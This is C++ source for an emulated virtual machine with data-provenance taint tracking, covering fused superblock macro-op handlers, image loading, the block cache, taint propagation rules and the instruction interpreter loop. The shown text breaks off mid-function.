    SB_CMP_BR(SB_CMPI_JGE_FALL, op->imm, sf_)

#undef SB_CMP_BR

/* Fused loop control (addi i,1; cmpi i,n; jcc): three guest
 * instructions, one dispatch. The counter bump has no taint effect
 * (an immediate carries no new tag) so the same handler serves every
 * execution mode. On the budget edge only the addi retires and the
 * still-fused compare-and-branch pair at the next index takes over,
 * keeping pause points instruction-exact. */
#define SB_ADDI_CMPI_BR(NAME, LINK)                                 \
    SB_CASE(NAME) : {                                               \
        if (budget - n >= 3) {                                      \
            n += 3;                                                 \
            R[(size_t)op->r1] += (uint32_t)op->imm;                 \
            const SbOp *cmp = op + 1;                               \
            const uint32_t a = R[(size_t)cmp->r1];                  \
            const uint32_t b = (uint32_t)cmp->imm;                  \
            zf_ = (a == b);                                         \
            sf_ = ((int32_t)(a - b) < 0);                           \
            op += 2;                                                \
            if (LINK) {                                             \
                op = base + op->dest;                               \
                SB_DISPATCH();                                      \
            }                                                       \
            eip_ = op->exitPc;                                      \
            bbStart_ = true;                                        \
            goto sb_done;                                           \
        }                                                           \
        SB_INSN();                                                  \
        R[(size_t)op->r1] += (uint32_t)op->imm;                     \
        SB_NEXT();                                                  \
    }

    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JZ_TAKEN, zf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JZ_FALL, !zf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JNZ_TAKEN, !zf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JNZ_FALL, zf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JL_TAKEN, sf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JL_FALL, !sf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JGE_TAKEN, !sf_)
    SB_ADDI_CMPI_BR(SB_ADDI_CMPI_JGE_FALL, sf_)

#undef SB_ADDI_CMPI_BR

/* Fused memory op + addi (pointer/counter bump): the body of the
 * unfused memory handler followed by the increment, one dispatch.
 * Guest memory cannot fault (unmapped reads yield 0, writes
 * allocate), so the pair always retires atomically on the fast
 * path; on the budget edge only the memory op retires and the
 * unfused addi at the next index takes over. */
#define SB_MEM_ADDI(NAME, ...)                                      \
    SB_CASE(NAME) : {                                               \
        if (budget - n >= 2) {                                      \
            n += 2;                                                 \
            { __VA_ARGS__; }                                        \
            const SbOp *ai = op + 1;                                \
            R[(size_t)ai->r1] += (uint32_t)ai->imm;                 \
            op += 2;                                                \
            SB_DISPATCH();                                          \
        }                                                           \
        SB_INSN();                                                  \
        { __VA_ARGS__; }                                            \
        SB_NEXT();                                                  \
    }

    SB_MEM_ADDI(SB_LOAD_ADDI,
        R[(size_t)op->r1] =
            gm.read32(R[(size_t)op->r2] + (uint32_t)op->imm))
    SB_MEM_ADDI(SB_LOAD_T_ADDI,
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        RT[(size_t)op->r1] = sh.rangeUnion(ts, ea, 4);
        R[(size_t)op->r1] = gm.read32(ea))
    SB_MEM_ADDI(SB_LOADB_ADDI,
        R[(size_t)op->r1] =
            gm.read8(R[(size_t)op->r2] + (uint32_t)op->imm))
    SB_MEM_ADDI(SB_LOADB_T_ADDI,
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        RT[(size_t)op->r1] = sh.get(ea);
        R[(size_t)op->r1] = gm.read8(ea))
    SB_MEM_ADDI(SB_STORE_ADDI,
        gm.write32(R[(size_t)op->r2] + (uint32_t)op->imm,
                   R[(size_t)op->r1]))
    SB_MEM_ADDI(SB_STORE_T_ADDI,
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        sh.setRange(ea, 4, RT[(size_t)op->r1]);
        gm.write32(ea, R[(size_t)op->r1]))
    SB_MEM_ADDI(SB_STOREB_ADDI,
        gm.write8(R[(size_t)op->r2] + (uint32_t)op->imm,
                  (uint8_t)R[(size_t)op->r1]))
    SB_MEM_ADDI(SB_STOREB_T_ADDI,
        const uint32_t ea = R[(size_t)op->r2] + (uint32_t)op->imm;
        sh.set(ea, RT[(size_t)op->r1]);
        gm.write8(ea, (uint8_t)R[(size_t)op->r1]))

#undef SB_MEM_ADDI

    // Four-instruction indexed-access macro-ops: address formation
    // (movri base; add base, index) fused straight into the memory
    // group it feeds (load/store; bump). One dispatch for the whole
    // array-copy idiom; the budget-edge fallback retires only the
    // movri and re-enters at the intact trailing pair chain.
#define SB_IDX_MEM(NAME, ...)                                       \
    SB_CASE(NAME) : {                                               \
        if (budget - n >= 4) {                                      \
            n += 4;                                                 \
            const SbOp *add = op + 1;                               \
            const SbOp *mem = op + 2;                               \
            const SbOp *ai = op + 3;                                \
            R[(size_t)op->r1] = (uint32_t)op->imm;                  \
            R[(size_t)add->r1] += R[(size_t)add->r2];               \
            { __VA_ARGS__; }                                        \
            R[(size_t)ai->r1] += (uint32_t)ai->imm;                 \
            op += 4;                                                \
            SB_DISPATCH();                                          \
        }                                                           \
        SB_INSN();                                                  \
        R[(size_t)op->r1] = (uint32_t)op->imm;                      \
        SB_NEXT();                                                  \
    }

#define SB_IDX_MEM_T(NAME, ...)                                     \
    SB_CASE(NAME) : {                                               \
        if (budget - n >= 4) {                                      \
            n += 4;                                                 \
            const SbOp *add = op + 1;                               \
            const SbOp *mem = op + 2;                               \
            const SbOp *ai = op + 3;                                \
            R[(size_t)op->r1] = (uint32_t)op->imm;                  \
            R[(size_t)add->r1] += R[(size_t)add->r2];               \
            const TagSetId bt = RT[(size_t)add->r2];                \
            RT[(size_t)op->r1] =                                    \
                (bt == TagStore::EMPTY || bt == op->tag)            \
                    ? op->tag                                       \
                    : (op->tag == TagStore::EMPTY                   \
                           ? bt                                     \
                           : ts.unite(op->tag, bt));                \
            { __VA_ARGS__; }                                        \
            R[(size_t)ai->r1] += (uint32_t)ai->imm;                 \
            op += 4;                                                \
            SB_DISPATCH();                                          \
        }                                                           \
        SB_INSN();                                                  \
        RT[(size_t)op->r1] = op->tag;                               \
        R[(size_t)op->r1] = (uint32_t)op->imm;                      \
        SB_NEXT();                                                  \
    }

    SB_IDX_MEM(SB_MOVRI_ADD_LOAD_ADDI,
        R[(size_t)mem->r1] =
            gm.read32(R[(size_t)mem->r2] + (uint32_t)mem->imm))
    SB_IDX_MEM_T(SB_MOVRI_ADD_LOAD_T_ADDI,
        const uint32_t ea = R[(size_t)mem->r2] + (uint32_t)mem->imm;
        RT[(size_t)mem->r1] = sh.rangeUnion(ts, ea, 4);
        R[(size_t)mem->r1] = gm.read32(ea))
    SB_IDX_MEM(SB_MOVRI_ADD_LOADB_ADDI,
        R[(size_t)mem->r1] =
            gm.read8(R[(size_t)mem->r2] + (uint32_t)mem->imm))
    SB_IDX_MEM_T(SB_MOVRI_ADD_LOADB_T_ADDI,
        const uint32_t ea = R[(size_t)mem->r2] + (uint32_t)mem->imm;
        RT[(size_t)mem->r1] = sh.get(ea);
        R[(size_t)mem->r1] = gm.read8(ea))
    SB_IDX_MEM(SB_MOVRI_ADD_STORE_ADDI,
        gm.write32(R[(size_t)mem->r2] + (uint32_t)mem->imm,
                   R[(size_t)mem->r1]))
    SB_IDX_MEM_T(SB_MOVRI_ADD_STORE_T_ADDI,
        const uint32_t ea = R[(size_t)mem->r2] + (uint32_t)mem->imm;
        sh.setRange(ea, 4, RT[(size_t)mem->r1]);
        gm.write32(ea, R[(size_t)mem->r1]))
    SB_IDX_MEM(SB_MOVRI_ADD_STOREB_ADDI,
        gm.write8(R[(size_t)mem->r2] + (uint32_t)mem->imm,
                  (uint8_t)R[(size_t)mem->r1]))
    SB_IDX_MEM_T(SB_MOVRI_ADD_STOREB_T_ADDI,
        const uint32_t ea = R[(size_t)mem->r2] + (uint32_t)mem->imm;
        sh.set(ea, RT[(size_t)mem->r1]);
        gm.write8(ea, (uint8_t)R[(size_t)mem->r1]))

#undef SB_IDX_MEM
#undef SB_IDX_MEM_T

    // Fused address formation (movri base; add base, index): the
    // dominant two-instruction idiom of indexed addressing. Same
    // budget-edge contract as the compare-and-branch fusions.
    SB_CASE(SB_MOVRI_ADD) : {
        if (budget - n >= 2) {
            n += 2;
            const SbOp *add = op + 1;
            R[(size_t)op->r1] = (uint32_t)op->imm;
            R[(size_t)add->r1] += R[(size_t)add->r2];
            op += 2;
            SB_DISPATCH();
        }
        SB_INSN();
        R[(size_t)op->r1] = (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_MOVRI_ADD_T) : {
        if (budget - n >= 2) {
            n += 2;
            const SbOp *add = op + 1;
            R[(size_t)op->r1] = (uint32_t)op->imm;
            R[(size_t)add->r1] += R[(size_t)add->r2];
            // movri leaves op->tag in RT[r1]; the add unites the
            // index register's tag in (inline unite fast path).
            const TagSetId bt = RT[(size_t)add->r2];
            RT[(size_t)op->r1] =
                (bt == TagStore::EMPTY || bt == op->tag)
                    ? op->tag
                    : (op->tag == TagStore::EMPTY
                           ? bt
                           : ts.unite(op->tag, bt));
            op += 2;
            SB_DISPATCH();
        }
        SB_INSN();
        RT[(size_t)op->r1] = op->tag;
        R[(size_t)op->r1] = (uint32_t)op->imm;
        SB_NEXT();
    }
    SB_CASE(SB_CPUID) : {
        SB_INSN();
        R[(size_t)Reg::Eax] = 0x48544856; // "HTHV"
        R[(size_t)Reg::Ebx] = 0x756e6548;
        R[(size_t)Reg::Ecx] = 0x6c65746e;
        R[(size_t)Reg::Edx] = 0x49656e69;
        SB_NEXT();
    }
    SB_CASE(SB_CPUID_T) : {
        SB_INSN();
        RT[(size_t)Reg::Eax] = op->tag; // HARDWARE, pre-interned
        RT[(size_t)Reg::Ebx] = op->tag;
        RT[(size_t)Reg::Ecx] = op->tag;
        RT[(size_t)Reg::Edx] = op->tag;
        R[(size_t)Reg::Eax] = 0x48544856;
        R[(size_t)Reg::Ebx] = 0x756e6548;
        R[(size_t)Reg::Ecx] = 0x6c65746e;
        R[(size_t)Reg::Edx] = 0x49656e69;
        SB_NEXT();
    }

    // In-trace links: the recorded direction re-dispatches without
    // touching eip_ or the block cache; the other side exits.
    SB_CASE(SB_JMP) : {
        SB_INSN();
        op = base + op->dest;
        SB_DISPATCH();
    }
    SB_CASE(SB_JZ_TAKEN) : {
        SB_INSN();
        if (zf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JZ_FALL) : {
        SB_INSN();
        if (!zf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JNZ_TAKEN) : {
        SB_INSN();
        if (!zf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JNZ_FALL) : {
        SB_INSN();
        if (zf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JL_TAKEN) : {
        SB_INSN();
        if (sf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JL_FALL) : {
        SB_INSN();
        if (!sf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JGE_TAKEN) : {
        SB_INSN();
        if (!sf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_JGE_FALL) : {
        SB_INSN();
        if (sf_) {
            op = base + op->dest;
            SB_DISPATCH();
        }
        eip_ = op->exitPc;
        bbStart_ = true;
        goto sb_done;
    }

    // Trace terminals: execute the transfer and leave the trace
    // with exactly the machine state the generic loop would have.
    SB_CASE(SB_XJMP) : {
        SB_INSN();
        eip_ = (uint32_t)op->imm;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XJZ) : {
        SB_INSN();
        eip_ = zf_ ? (uint32_t)op->imm : op->pc + INSN_SIZE;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XJNZ) : {
        SB_INSN();
        eip_ = !zf_ ? (uint32_t)op->imm : op->pc + INSN_SIZE;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XJL) : {
        SB_INSN();
        eip_ = sf_ ? (uint32_t)op->imm : op->pc + INSN_SIZE;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XJGE) : {
        SB_INSN();
        eip_ = !sf_ ? (uint32_t)op->imm : op->pc + INSN_SIZE;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XCALL) : {
        SB_INSN();
        push32(op->pc + INSN_SIZE, TagStore::EMPTY);
        const uint32_t tgt = (uint32_t)op->imm;
        if (instrumentor_) {
            eip_ = op->pc; // what the callback observes generically
            instrumentor_->routineEnter(*this, tgt);
        }
        eip_ = tgt;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XCALLSYM) : {
        // imm was pre-resolved through the import table at build.
        SB_INSN();
        push32(op->pc + INSN_SIZE, TagStore::EMPTY);
        const uint32_t tgt = (uint32_t)op->imm;
        if (instrumentor_) {
            eip_ = op->pc;
            instrumentor_->routineEnter(*this, tgt);
        }
        eip_ = tgt;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XCALLR) : {
        SB_INSN();
        push32(op->pc + INSN_SIZE, TagStore::EMPTY);
        const uint32_t tgt = R[(size_t)op->r1];
        if (instrumentor_) {
            eip_ = op->pc;
            instrumentor_->routineEnter(*this, tgt);
        }
        eip_ = tgt;
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XRET) : {
        SB_INSN();
        eip_ = pop32();
        bbStart_ = true;
        goto sb_done;
    }
    SB_CASE(SB_XSYSCALL) : {
        SB_INSN();
        eip_ = op->pc + INSN_SIZE;
        bbStart_ = true;
        result = {StepKind::Syscall, {}, sb.exitImg, {}};
        goto sb_done;
    }
    SB_CASE(SB_XHALT) : {
        SB_INSN();
        halted_ = true;
        eip_ = op->pc + INSN_SIZE;
        bbStart_ = false; // generic Halt returns without setting it
        result = {StepKind::Halted, {}, nullptr, {}};
        goto sb_done;
    }
    SB_CASE(SB_XFALLOFF) : {
        // Pseudo-op (consumes no budget): the trace ran off the end
        // of decoded text. Resume generically, which faults exactly
        // as the interpreter always has.
        eip_ = op->pc;
        bbStart_ = false;
        goto sb_done;
    }

#ifndef HTH_COMPUTED_GOTO
      default:
        break;
    }
#endif

sb_deopt:
    ++stats_.superblockDeopts;
    deopt = true;
    eip_ = op->pc + INSN_SIZE; // the deopting insn already retired
    bbStart_ = false;
    resume = true;
    // fall through
sb_done:
    stats_.instructions += n;
    stats_.superblockInsns += n;
    if (taint)
        stats_.taintOps += n; // propagate() counts one per insn
    if (bbs > 1)
        stats_.superblockChainedExits += bbs - 1;
    executed = n;
    if (deopt) {
        // Unpublish the trace so the path re-forms (and re-proves,
        // or gives up on, its specialization) under current taint
        // conditions; parked in retiredSbs_ because this frame is
        // still inside its ops array.
        auto it = blockCache_.find(sb.entryPc);
        if (it != blockCache_.end() && it->second.sb.get() == &sb) {
            retiredSbs_.push_back(std::move(it->second.sb));
            it->second.heat = 0;
        }
    }
    if (resume) {
        if (pausedSb_) {
            // Budget pause: the overwhelmingly common next event is
            // the fast-path re-entry at run()'s top, which never
            // looks at the cursor. Null it and let run() restore it
            // (one hash find) only if the re-entry guard fails.
            curBlock_ = nullptr;
            curOff_ = 0;
        } else {
            // Deopt stopped at a mid-block pc: restore the generic
            // cursor so resumption continues in place rather than
            // minting a duplicate block-cache entry keyed at a
            // mid-block address.
            auto it = blockCache_.find(bbPc);
            if (it != blockCache_.end() && eip_ >= bbPc &&
                eip_ < bbPc + it->second.count * INSN_SIZE) {
                curBlock_ = &it->second;
                curOff_ = (eip_ - bbPc) / INSN_SIZE;
            } else {
                curBlock_ = nullptr;
                curOff_ = 0;
            }
        }
    }
    return result;

#undef SB_INSN
#undef SB_CASE
#undef SB_DISPATCH
#undef SB_NEXT
}

void
Machine::setTraceDepth(size_t depth)
{
    traceDepth_ = depth;
    while (trace_.size() > traceDepth_)
        trace_.pop_front();
}

std::string
Machine::traceToString() const
{
    std::string out;
    for (const TraceEntry &entry : trace_) {
        const LoadedImage *img = findImage(entry.pc);
        out += "  ";
        if (img) {
            out += img->image->path;
            out += "+";
            out += std::to_string(entry.pc - img->base);
        } else {
            out += std::to_string(entry.pc);
        }
        out += ": ";
        out += entry.insn.toString();
        out += "\n";
    }
    return out;
}

Machine
Machine::cloneForFork() const
{
    Machine out(*tags_);
    out.regs_ = regs_;
    out.regTags_ = regTags_;
    out.eip_ = eip_;
    out.zf_ = zf_;
    out.sf_ = sf_;
    out.halted_ = halted_;
    out.bbStart_ = bbStart_;
    out.trackTaint_ = trackTaint_;
    out.superblocks_ = superblocks_;
    out.mem_ = mem_.clone();
    out.shadow_ = shadow_.clone();
    out.images_ = images_;
    // Block cache entries point into *this* machine's images_; the
    // clone starts with a cold cache and rebuilds as it runs.
    out.nextSoBase_ = nextSoBase_;
    out.instrumentor_ = instrumentor_;
    out.insnHook_ = insnHook_;
    out.stats_ = MachineStats{};
    return out;
}

} // namespace hth::vm
