#include "vm/Machine.hh"

#include <algorithm>

#include "support/Logging.hh"

namespace hth::vm
{

using taint::TagSetId;
using taint::TagStore;

Machine::Machine(taint::TagStore &tags) : tags_(&tags)
{
    regTags_.fill(TagStore::EMPTY);
    setReg(Reg::Esp, STACK_TOP);
}

//
// Image loading
//

const LoadedImage &
Machine::loadImage(std::shared_ptr<const Image> image,
                   taint::ResourceId resource, uint32_t base)
{
    if (base == 0) {
        if (image->sharedObject) {
            base = nextSoBase_;
            nextSoBase_ += SO_STRIDE;
        } else {
            base = APP_BASE;
        }
    }

    LoadedImage loaded;
    loaded.image = image;
    loaded.base = base;
    loaded.resource = resource;
    loaded.text = image->text;

    // Apply relocations: patch absolute addresses of local symbols.
    for (const auto &reloc : image->relocs) {
        panicIf(reloc.textIndex >= loaded.text.size(),
                "reloc beyond text in ", image->path);
        loaded.text[reloc.textIndex].imm =
            (int32_t)(base + image->symbol(reloc.symbol));
    }

    // Resolve imports against the images loaded so far.
    for (const auto &sym : image->imports) {
        uint32_t addr = 0;
        for (const auto &other : images_) {
            auto it = other.image->symbols.find(sym);
            if (it != other.image->symbols.end()) {
                addr = other.base + it->second;
                break;
            }
        }
        fatalIf(addr == 0, "image ", image->path,
                ": unresolved import ", sym);
        loaded.importAddrs.push_back(addr);
    }

    // Map the data section and tag it as BINARY data (§7.3.2).
    const uint32_t data_base = base + image->dataOffset();
    if (!image->data.empty()) {
        mem_.writeBytes(data_base, image->data.data(),
                        image->data.size());
        if (trackTaint_) {
            TagSetId tag = tags_->single(
                {taint::SourceType::Binary, resource});
            shadow_.setRange(data_base, (uint32_t)image->data.size(),
                             tag);
        }
    }

    images_.push_back(std::move(loaded));
    // The image set changed: cached blocks hold image pointers and
    // may shadow addresses the new mapping now owns.
    invalidateBlockCache();
    const LoadedImage &ref = images_.back();
    if (instrumentor_)
        instrumentor_->imageLoaded(*this, ref);
    return ref;
}

const LoadedImage *
Machine::findImage(uint32_t addr) const
{
    for (const auto &img : images_)
        if (img.containsText(addr))
            return &img;
    return nullptr;
}

const LoadedImage *
Machine::appImage() const
{
    for (const auto &img : images_)
        if (!img.image->sharedObject)
            return &img;
    return nullptr;
}

uint32_t
Machine::resolveSymbol(const std::string &name) const
{
    for (const auto &img : images_) {
        auto it = img.image->symbols.find(name);
        if (it != img.image->symbols.end())
            return img.base + it->second;
    }
    fatal("unresolved symbol ", name);
}

void
Machine::resetForExec()
{
    images_.clear();
    invalidateBlockCache();
    nextSoBase_ = SO_BASE;
    regs_.fill(0);
    regTags_.fill(TagStore::EMPTY);
    setReg(Reg::Esp, STACK_TOP);
    mem_ = GuestMemory();
    shadow_ = taint::ShadowMemory();
    eip_ = 0;
    zf_ = sf_ = false;
    halted_ = false;
    bbStart_ = true;
}

//
// Guest helpers
//

void
Machine::push32(uint32_t value, TagSetId tag)
{
    uint32_t esp = reg(Reg::Esp) - 4;
    setReg(Reg::Esp, esp);
    mem_.write32(esp, value);
    if (trackTaint_)
        shadow_.setRange(esp, 4, tag);
}

uint32_t
Machine::pop32(TagSetId *tag_out)
{
    uint32_t esp = reg(Reg::Esp);
    uint32_t value = mem_.read32(esp);
    if (tag_out)
        *tag_out = shadow_.rangeUnion(*tags_, esp, 4);
    setReg(Reg::Esp, esp + 4);
    return value;
}

TagSetId
Machine::stringTags(uint32_t addr) const
{
    // Find the string length page-chunked, then union the shadow
    // tags with one page lookup per page instead of one per byte.
    const uint32_t len = (uint32_t)mem_.cstrlen(addr, 4096);
    return shadow_.rangeUnion(*tags_, addr, len);
}

TagSetId
Machine::rangeTags(uint32_t addr, uint32_t len) const
{
    return shadow_.rangeUnion(*tags_, addr, len);
}

void
Machine::writeTagged(uint32_t addr, const void *src, size_t len,
                     TagSetId tag)
{
    mem_.writeBytes(addr, src, len);
    if (trackTaint_)
        shadow_.setRange(addr, (uint32_t)len, tag);
}

//
// Execution
//

Machine::CachedBlock *
Machine::enterBlock(uint32_t pc)
{
    auto it = blockCache_.find(pc);
    if (it != blockCache_.end()) {
        ++stats_.blockCacheHits;
        return &it->second;
    }

    // Miss: resolve the image once and decode to the block-ending
    // control transfer. Every instruction the block executes after
    // this lookup costs neither findImage nor a division.
    const LoadedImage *img = findImage(pc);
    if (!img || (pc - img->base) % INSN_SIZE != 0)
        return nullptr;
    const uint32_t start = (pc - img->base) / INSN_SIZE;
    const uint32_t limit = (uint32_t)img->text.size();
    uint32_t n = 0;
    while (start + n < limit) {
        const Opcode op = img->text[start + n].op;
        ++n;
        if (isControlTransfer(op))
            break;
    }
    if (n == 0)
        return nullptr; // pc at the exact end of text

    ++stats_.blockCacheMisses;
    stats_.insnsDecoded += n;
    CachedBlock blk;
    blk.img = img;
    blk.insns = img->text.data() + start;
    blk.startPc = pc;
    blk.count = n;
    return &blockCache_.emplace(pc, blk).first->second;
}

void
Machine::invalidateBlockCache()
{
    ++stats_.blockCacheInvalidations;
    blockCache_.clear();
    curBlock_ = nullptr;
    curOff_ = 0;
}

TagSetId
Machine::binaryTagSlow(const LoadedImage &img)
{
    // First immediate executed from this block since it was cached:
    // intern the tag and memoise it for the rest of the block's
    // lifetime. An instrumentor callback may have invalidated the
    // cache mid-step; intern without memoising then.
    taint::TagSetId tag =
        tags_->single({taint::SourceType::Binary, img.resource});
    if (curBlock_ && curBlock_->img == &img)
        curBlock_->binTag = tag;
    return tag;
}

void
Machine::propagate(const Instruction &insn, uint32_t pc,
                   const LoadedImage &img)
{
    (void)pc;
    ++stats_.taintOps;
    switch (insn.op) {
      case Opcode::MovRR:
        setRegTag(insn.r1, regTag(insn.r2));
        break;
      case Opcode::MovRI:
      case Opcode::Lea:
        // Immediates come from the binary image (§7.3.1 example 2);
        // lea propagates the base register's provenance.
        if (insn.op == Opcode::MovRI)
            setRegTag(insn.r1, binaryTag(img));
        else
            setRegTag(insn.r1, regTag(insn.r2));
        break;
      case Opcode::Load: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        setRegTag(insn.r1, shadow_.rangeUnion(*tags_, ea, 4));
        break;
      }
      case Opcode::LoadB: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        setRegTag(insn.r1, shadow_.get(ea));
        break;
      }
      case Opcode::Store: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        shadow_.setRange(ea, 4, regTag(insn.r1));
        break;
      }
      case Opcode::StoreB: {
        uint32_t ea = reg(insn.r2) + (uint32_t)insn.imm;
        shadow_.set(ea, regTag(insn.r1));
        break;
      }
      case Opcode::Add:
      case Opcode::Sub:
      case Opcode::And:
      case Opcode::Or:
      case Opcode::Mul:
        // Result carries the union of both operands' sources
        // (§7.3.1 example 3).
        setRegTag(insn.r1,
                  tags_->unite(regTag(insn.r1), regTag(insn.r2)));
        break;
      case Opcode::Xor:
        // xor r,r is the x86 zeroing idiom: the result is a constant
        // independent of the operand, so taint is cleared.
        if (insn.r1 == insn.r2)
            setRegTag(insn.r1, TagStore::EMPTY);
        else
            setRegTag(insn.r1,
                      tags_->unite(regTag(insn.r1), regTag(insn.r2)));
        break;
      case Opcode::AddI:
      case Opcode::Shl:
      case Opcode::Shr:
        // Constant-offset arithmetic keeps the operand's provenance;
        // uniting in BINARY here would drown every loop counter in
        // binary taint without adding policy signal.
        break;
      case Opcode::CpuId: {
        // Processor identification: HARDWARE source (§7.3.1 ex. 4).
        TagSetId hw = tags_->single(
            {taint::SourceType::Hardware, taint::NO_RESOURCE});
        setRegTag(Reg::Eax, hw);
        setRegTag(Reg::Ebx, hw);
        setRegTag(Reg::Ecx, hw);
        setRegTag(Reg::Edx, hw);
        break;
      }
      case Opcode::PushI:
        // Handled in the executor (tag passed to push32).
        break;
      default:
        break;
    }
}

StepResult
Machine::step()
{
    uint64_t executed = 0;
    return run(1, executed);
}

StepResult
Machine::run(uint64_t budget, uint64_t &executed)
{
    executed = 0;
    if (halted_)
        return {StepKind::Halted, {}, nullptr, {}};

    while (executed < budget) {
        const uint32_t pc = eip_;
        // Cursor fast path: the next instruction of the current cached
        // block is exactly pc. Anything else (block entry, redirected
        // eip, invalidation) re-enters through the block cache.
        if (!curBlock_ || curOff_ >= curBlock_->count ||
            pc != curBlock_->startPc + curOff_ * INSN_SIZE) {
            curBlock_ = enterBlock(pc);
            curOff_ = 0;
            if (!curBlock_) {
                halted_ = true;
                faultMsg_ = "bad fetch at " + std::to_string(pc);
                return {StepKind::Fault, {}, nullptr, faultMsg_};
            }
        }
        const LoadedImage *img = curBlock_->img;
        const Instruction &insn = curBlock_->insns[curOff_];
        ++curOff_;

        if (bbStart_) {
            ++stats_.basicBlocks;
            if (instrumentor_)
                instrumentor_->basicBlock(*this, pc);
            bbStart_ = false;
        }

        if (insnHook_)
            instrumentor_->instruction(*this, insn, pc);
        if (traceDepth_) {
            if (trace_.size() >= traceDepth_)
                trace_.pop_front();
            trace_.push_back({pc, insn});
        }
        if (trackTaint_)
            propagate(insn, pc, *img);

        ++stats_.instructions;
        ++executed;
        uint32_t next = pc + INSN_SIZE;

        switch (insn.op) {
          case Opcode::Halt:
            halted_ = true;
            eip_ = next;
            return {StepKind::Halted, {}, nullptr, {}};
          case Opcode::Nop:
            break;

          case Opcode::MovRR:
            setReg(insn.r1, reg(insn.r2));
            break;
          case Opcode::MovRI:
            setReg(insn.r1, (uint32_t)insn.imm);
            break;
          case Opcode::Lea:
            setReg(insn.r1, reg(insn.r2) + (uint32_t)insn.imm);
            break;
          case Opcode::Load:
            setReg(insn.r1, mem_.read32(reg(insn.r2) + (uint32_t)insn.imm));
            break;
          case Opcode::Store:
            mem_.write32(reg(insn.r2) + (uint32_t)insn.imm, reg(insn.r1));
            break;
          case Opcode::LoadB:
            setReg(insn.r1, mem_.read8(reg(insn.r2) + (uint32_t)insn.imm));
            break;
          case Opcode::StoreB:
            mem_.write8(reg(insn.r2) + (uint32_t)insn.imm,
                        (uint8_t)reg(insn.r1));
            break;

          case Opcode::Push:
            push32(reg(insn.r1), trackTaint_ ? regTag(insn.r1)
                                             : TagStore::EMPTY);
            break;
          case Opcode::PushI:
            push32((uint32_t)insn.imm,
                   trackTaint_ ? binaryTag(*img) : TagStore::EMPTY);
            break;
          case Opcode::Pop: {
            TagSetId tag = TagStore::EMPTY;
            uint32_t v = pop32(trackTaint_ ? &tag : nullptr);
            setReg(insn.r1, v);
            if (trackTaint_)
                setRegTag(insn.r1, tag);
            break;
          }

          case Opcode::Add:
            setReg(insn.r1, reg(insn.r1) + reg(insn.r2));
            break;
          case Opcode::AddI:
            setReg(insn.r1, reg(insn.r1) + (uint32_t)insn.imm);
            break;
          case Opcode::Sub:
            setReg(insn.r1, reg(insn.r1) - reg(insn.r2));
            break;
          case Opcode::And:
            setReg(insn.r1, reg(insn.r1) & reg(insn.r2));
            break;
          case Opcode::Or:
            setReg(insn.r1, reg(insn.r1) | reg(insn.r2));
            break;
          case Opcode::Xor:
            setReg(insn.r1, reg(insn.r1) ^ reg(insn.r2));
            break;
          case Opcode::Mul:
            setReg(insn.r1, reg(insn.r1) * reg(insn.r2));
            break;
          case Opcode::Shl:
            setReg(insn.r1, reg(insn.r1) << (insn.imm & 31));
            break;
          case Opcode::Shr:
            setReg(insn.r1, reg(insn.r1) >> (insn.imm & 31));
            break;

          case Opcode::Cmp: {
            uint32_t a = reg(insn.r1), b = reg(insn.r2);
            zf_ = (a == b);
            sf_ = ((int32_t)(a - b) < 0);
            break;
          }
          case Opcode::CmpI: {
            uint32_t a = reg(insn.r1), b = (uint32_t)insn.imm;
            zf_ = (a == b);
            sf_ = ((int32_t)(a - b) < 0);
            break;
          }

          case Opcode::Jmp:
            next = (uint32_t)insn.imm;
            break;
          case Opcode::Jz:
            if (zf_)
                next = (uint32_t)insn.imm;
            break;
          case Opcode::Jnz:
            if (!zf_)
                next = (uint32_t)insn.imm;
            break;
          case Opcode::Jl:
            if (sf_)
                next = (uint32_t)insn.imm;
            break;
          case Opcode::Jge:
            if (!sf_)
                next = (uint32_t)insn.imm;
            break;

          case Opcode::Call:
            push32(next, TagStore::EMPTY);
            next = (uint32_t)insn.imm;
            if (instrumentor_)
                instrumentor_->routineEnter(*this, next);
            break;
          case Opcode::CallSym: {
            const auto &addrs = img->importAddrs;
            if ((size_t)insn.imm >= addrs.size()) {
                halted_ = true;
